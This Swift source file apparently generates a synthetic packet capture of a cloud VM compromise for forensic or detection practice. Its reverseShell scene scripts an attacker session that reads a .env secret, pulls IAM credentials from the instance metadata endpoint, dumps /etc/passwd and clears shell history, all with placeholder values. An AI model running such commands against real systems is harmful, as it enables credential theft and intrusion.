import FleetModel
import PcapWriter

/// Collects the story's conversations; each scene builds its own frames.
struct StoryBuilder {
    private var frames: [TimedFrame] = []
    private var random = SplitMix64(seed: 0x5107)
    private var isn: UInt32 = 0x1357_9bdf

    private mutating func nextISN() -> UInt32 {
        isn = isn &* 1_103_515_245 &+ 12_345
        return isn
    }

    mutating func sorted() -> [TimedFrame] {
        frames.enumerated().sorted { ($0.element.time, $0.offset) < ($1.element.time, $1.offset) }.map(\.element)
    }

    private mutating func add(_ tcp: inout TCPConversation) { frames += tcp.takeFrames() }

    private mutating func tcp(_ client: Endpoint, _ server: Endpoint, at time: NetworkTime, rtt: Int64, outbound: Bool) -> TCPConversation {
        TCPConversation(
            client: client, server: server, start: time, clientISN: nextISN(), serverISN: nextISN(),
            roundTrip: NetworkDuration(microseconds: rtt), builder: outbound ? StoryCapture.outbound : StoryCapture.inbound
        )
    }

    // MARK: Scenes

    mutating func metadataCall(path: String, body: String, at time: NetworkTime, port: UInt16) {
        var conversation = tcp(Endpoint(StoryCapture.vm, port), Endpoint(StoryCapture.metadata, 80), at: time, rtt: 300, outbound: true)
        conversation.handshake()
        conversation.send(HTTPPayload.request(uri: path, host: "169.254.169.254", headers: [
            ("User-Agent", "aws-sdk-js/3.556.0"), ("Accept", "*/*"),
        ]), from: .client)
        conversation.send(HTTPPayload.response(headers: [
            ("Content-Type", "text/plain"), ("Server", "EC2ws"),
        ], body: Array(body.utf8)), from: .server)
        conversation.close(from: .client)
        add(&conversation)
    }

    /// A/AAAA lookup through the VPC resolver, then HTTPS (ClientHello with SNI) to the first answer.
    mutating func lookupAndFetch(
        name: String, addresses: [IPAddress], ttl: UInt32, id: UInt16, at time: NetworkTime, port: UInt16, sourcePort: UInt16
    ) {
        let answerTime = dnsA(name: name, addresses: addresses, ttl: ttl, id: id, at: time, sourcePort: sourcePort)
        guard let server = addresses.first else { return }
        var conversation = tcp(Endpoint(StoryCapture.vm, port), Endpoint(server, 443), at: answerTime + .init(microseconds: 400), rtt: 9_000, outbound: true)
        conversation.handshake()
        conversation.send(TLSPayload.clientHello(serverName: name, random: random.bytes(32), sessionID: random.bytes(32)), from: .client)
        conversation.send(TLSPayload.serverHello(random: random.bytes(32), cipherSuite: 0x1301, tls13: true)
            + TLSPayload.changeCipherSpec + TLSPayload.opaqueRecord(length: 3_100, seed: 3), from: .server)
        conversation.send(TLSPayload.changeCipherSpec + TLSPayload.opaqueRecord(length: 53, seed: 4), from: .client)
        conversation.send(TLSPayload.opaqueRecord(length: 310, seed: 5), from: .client)
        conversation.send(TLSPayload.opaqueRecord(length: 1_900, seed: 6), from: .server)
        conversation.close(from: .client)
        add(&conversation)
    }

    @discardableResult
    mutating func dnsA(name: String, addresses: [IPAddress], ttl: UInt32, id: UInt16, at time: NetworkTime, sourcePort: UInt16) -> NetworkTime {
        let answers = addresses.map { DNSAnswer(name: name, data: .a($0), ttl: ttl) }
        return dns(name: name, type: DNSMessageBuilder.typeA, answers: answers, id: id, at: time, sourcePort: sourcePort)
    }

    mutating func dnsAAAA(name: String, addresses: [IPAddress], id: UInt16, at time: NetworkTime, sourcePort: UInt16) {
        let answers = addresses.map { DNSAnswer(name: name, data: .aaaa($0), ttl: 300) }
        dns(name: name, type: DNSMessageBuilder.typeAAAA, answers: answers, id: id, at: time, sourcePort: sourcePort)
    }

    @discardableResult
    private mutating func dns(name: String, type: UInt16, answers: [DNSAnswer], id: UInt16, at time: NetworkTime, sourcePort: UInt16) -> NetworkTime {
        var out = StoryCapture.outbound
        var back = StoryCapture.inbound
        let client = Endpoint(StoryCapture.vm, sourcePort)
        frames.append(TimedFrame(time: time, bytes: out.udp(from: client, to: StoryCapture.resolver,
                                                            payload: DNSMessageBuilder.query(id: id, name: name, type: type))))
        let answerTime = time + NetworkDuration(microseconds: 1_800)
        frames.append(TimedFrame(time: answerTime, bytes: back.udp(from: StoryCapture.resolver, to: client,
                                                                   payload: DNSMessageBuilder.response(id: id, name: name, type: type, answers: answers))))
        return answerTime
    }

    mutating func intraVPC(to peer: IPAddress, at time: NetworkTime, port: UInt16) {
        var conversation = tcp(Endpoint(StoryCapture.vm, port), Endpoint(peer, 5432), at: time, rtt: 400, outbound: true)
        conversation.handshake()
        conversation.send(random.bytes(90), from: .client)
        conversation.send(random.bytes(340), from: .server)
        conversation.send(random.bytes(120), from: .client)
        conversation.send(random.bytes(760), from: .server)
        conversation.close(from: .client)
        add(&conversation)
    }

    mutating func webVisit(from visitor: IPAddress, port: UInt16, uri: String, at time: NetworkTime) {
        var conversation = tcp(Endpoint(visitor, port), Endpoint(StoryCapture.vm, 3000), at: time, rtt: 38_000, outbound: false)
        conversation.handshake()
        conversation.send(HTTPPayload.request(uri: uri, host: "172.31.6.55:3000", headers: [
            ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 Safari/605.1.15"),
            ("Accept", "application/json"),
        ]), from: .client)
        conversation.send(HTTPPayload.response(headers: [
            ("X-Powered-By", "Express"), ("Content-Type", "application/json; charset=utf-8"),
        ], body: Array("{\"category\":\"fashion\",\"items\":[\"hat\",\"scarf\",\"boots\"]}".utf8)), from: .server)
        conversation.close(from: .client)
        add(&conversation)
    }

    mutating func sshSession(from client: IPAddress, port: UInt16, at time: NetworkTime, duration: Double) {
        var conversation = tcp(Endpoint(client, port), Endpoint(StoryCapture.vm, 22), at: time, rtt: 24_000, outbound: false)
        conversation.handshake()
        conversation.send(Array("SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13.5\r\n".utf8), from: .server)
        conversation.send(Array("SSH-2.0-OpenSSH_9.7\r\n".utf8), from: .client)
        conversation.send(random.bytes(1_512), from: .client)
        conversation.send(random.bytes(1_080), from: .server)
        conversation.send(random.bytes(48), from: .client)
        conversation.send(random.bytes(564), from: .server)
        conversation.send(random.bytes(16), from: .client)
        let end = time + NetworkDuration(microseconds: Int64(duration * 1_000_000))
        while conversation.time < end {
            // Typing: a keystroke and its echo, then think time.
            for _ in 0..<random.int(1...12) {
                conversation.send(random.bytes(36), from: .client, acknowledge: false)
                conversation.send(random.bytes(36), from: .server)
                conversation.advance(by: NetworkDuration(microseconds: Int64(random.int(80_000...300_000))))
            }
            conversation.send(random.bytes(random.int(60...1_400)), from: .server)
            conversation.advance(by: NetworkDuration(microseconds: Int64(random.int(2_000_000...25_000_000))))
        }
        conversation.send(random.bytes(36), from: .client)
        conversation.close(from: .client)
        add(&conversation)
    }

    mutating func exploitRequest(uri: String, port: UInt16, at time: NetworkTime) {
        var conversation = tcp(Endpoint(StoryCapture.attacker, port), Endpoint(StoryCapture.vm, 3000), at: time, rtt: 31_000, outbound: false)
        conversation.handshake()
        conversation.send(HTTPPayload.request(uri: uri, host: "172.31.6.55:3000", headers: [
            ("User-Agent", "curl/8.5.0"), ("Accept", "*/*"),
        ]), from: .client)
        conversation.advance(by: NetworkDuration(microseconds: 120_000))
        conversation.send(HTTPPayload.response(headers: [
            ("X-Powered-By", "Express"), ("Content-Type", "application/json; charset=utf-8"),
        ], body: Array("{\"category\":\"fashion&&\",\"items\":[]}".utf8)), from: .server)
        conversation.close(from: .client)
        add(&conversation)
    }

    /// VM → attacker:3000, an interactive shell: small lines both ways.
    mutating func reverseShell(localPort: UInt16, at time: NetworkTime, duration: Double) {
        var conversation = tcp(Endpoint(StoryCapture.vm, localPort), Endpoint(StoryCapture.attacker, 3000), at: time, rtt: 31_000, outbound: true)
        conversation.handshake()
        conversation.send(Array("sh: 0: can't access tty; job control turned off\n$ ".utf8), from: .client)
        let session: [(String, String)] = [
            ("id\n", "uid=1000(node) gid=1000(node) groups=1000(node)\n$ "),
            ("whoami\n", "node\n$ "),
            ("uname -a\n", "Linux ip-172-31-6-55 6.1.0-18-cloud-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1 x86_64 GNU/Linux\n$ "),
            ("pwd\n", "/srv/app\n$ "),
            ("ls -la\n", "total 64\ndrwxr-xr-x 1 node node 4096 Nov 27 21:14 .\ndrwxr-xr-x 1 root root 4096 Nov 27 21:10 ..\n-rw-r--r-- 1 node node  212 Nov 27 21:10 .env\n-rw-r--r-- 1 node node 1833 Nov 27 21:10 server.js\ndrwxr-xr-x 1 node node 4096 Nov 27 21:12 node_modules\n-rw-r--r-- 1 node node  496 Nov 27 21:10 package.json\n$ "),
            ("cat .env\n", "PORT=3000\nDB_HOST=172.31.9.10\nDB_USER=app\nDB_PASSWORD=hunter2-prod\n$ "),
            ("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\n", "fleet-web-role\n$ "),
            ("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/fleet-web-role\n", "{\"Code\":\"Success\",\"Type\":\"AWS-HMAC\",\"AccessKeyId\":\"ASIAEXAMPLEKEY000001\",\"SecretAccessKey\":\"EXAMPLE/secret/not-real\",\"Token\":\"EXAMPLETOKEN\",\"Expiration\":\"2025-11-28T14:31:00Z\"}\n$ "),
            ("cat /etc/passwd\n", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nnode:x:1000:1000::/home/node:/bin/sh\n$ "),
            ("ps aux | head\n", "USER PID %CPU %MEM COMMAND\nnode 1 0.3 2.1 node server.js\nnode 41 0.0 0.0 sh -i\n$ "),
            ("netstat -tnp 2>/dev/null | head\n", "tcp 0 0 172.31.6.55:41862 35.217.6.162:3000 ESTABLISHED 41/sh\n$ "),
            ("history -c; exit\n", ""),
        ]
        let gap = duration / Double(session.count)
        for (index, exchange) in session.enumerated() {
            conversation.advance(by: NetworkDuration(microseconds: Int64((gap * (0.6 + 0.1 * Double(index % 5))) * 1_000_000)))
            conversation.send(Array(exchange.0.utf8), from: .server)
            conversation.advance(by: NetworkDuration(microseconds: 40_000))
            if !exchange.1.isEmpty {
                conversation.send(Array(exchange.1.utf8), from: .client)
            }
            // The metadata lookups run from the VM itself.
            if exchange.0.contains("169.254.169.254") {
                let path = exchange.0.hasSuffix("fleet-web-role\n")
                    ? "/latest/meta-data/iam/security-credentials/fleet-web-role"
                    : "/latest/meta-data/iam/security-credentials/"
                metadataCall(path: path, body: exchange.1, at: conversation.time, port: localPort &+ UInt16(index) &+ 100)
            }
        }
        let end = time + NetworkDuration(microseconds: Int64(duration * 1_000_000))
        if conversation.time < end { conversation.time = end }
        conversation.close(from: .client)
        add(&conversation)
    }

    mutating func refusedCallback(localPort: UInt16, at time: NetworkTime) {
        var conversation = tcp(Endpoint(StoryCapture.vm, localPort), Endpoint(StoryCapture.attacker, 3000), at: time, rtt: 31_000, outbound: true)
        conversation.segment(from: .client, flags: [.syn], consumes: 1, acknowledging: false)
        conversation.advance(by: conversation.halfRoundTrip)
        conversation.segment(from: .server, flags: [.rst, .ack])
        add(&conversation)
    }
}
